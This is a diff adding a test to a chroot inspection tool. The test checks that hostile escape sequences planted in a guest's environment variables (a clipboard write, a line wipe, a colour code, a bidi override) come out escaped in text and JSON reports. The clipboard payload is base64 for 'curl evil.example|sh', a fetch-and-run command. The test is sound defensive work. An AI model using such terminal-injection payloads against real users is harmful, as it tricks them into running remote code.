@@ -228,4 +228,23 @@ find "$1/fs/u" -name 'ctd-pwn-*'`;
     const copied = statSync(join(config, 'pulse/cookie'));
     expect([copied.uid, copied.mode & 0o777, copied.size]).toEqual([g.user.uid, 0o600, 256]);
   });
+  test('M3: escape sequences in guest strings (an OSC 52 clipboard write, a line wipe, a bidi override) reach the terminal escaped, never raw', async () => {
+    const g = await w.guestRoot('hostile-escapes');
+    const osc52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007';
+    await startChrootProcess(w.net, g.root, {
+      uid: g.user.uid, gid: g.user.gid,
+      env: { PATH: '/usr/bin:/bin', HOME: g.user.home, DISPLAY: `${osc52}:0`, XDG_RUNTIME_DIR: '/run/\u001b[2K\u001b[1Ax\u202ey', PULSE_SERVER: 'unix:/tmp/\u001b[31mred' },
+    }, w.cleanup);
+    for (const format of ['text', 'json']) {
+      const r = await runTool(['check', `chroot:${g.root}`, '--format', format, '--timeout', '3000'], { netns: w.net.guestNsPath, env: { FORCE_COLOR: '0' } });
+      // The values did reach the report (escaped in text; JSON escapes them itself)...
+      expect(r.stdout, format).toContain(format === 'text' ? '\\x1b]52' : '\\u001b]52');
+      // ...and no raw ESC, BEL or bidi override of the guest's did.
+      expect(r.stdout.includes('\u001b]52'), format).toBe(false);
+      expect(/\u001b\[(2K|1A|31m)/.test(r.stdout), format).toBe(false);
+      // A bidi override is a printable character to JSON (machine output); the human formats escape it.
+      if (format === 'text') expect(r.stdout.includes('\u202e')).toBe(false);
+      expect(r.stdout.includes('\u0007'), format).toBe(false);
+    }
+  });
 });
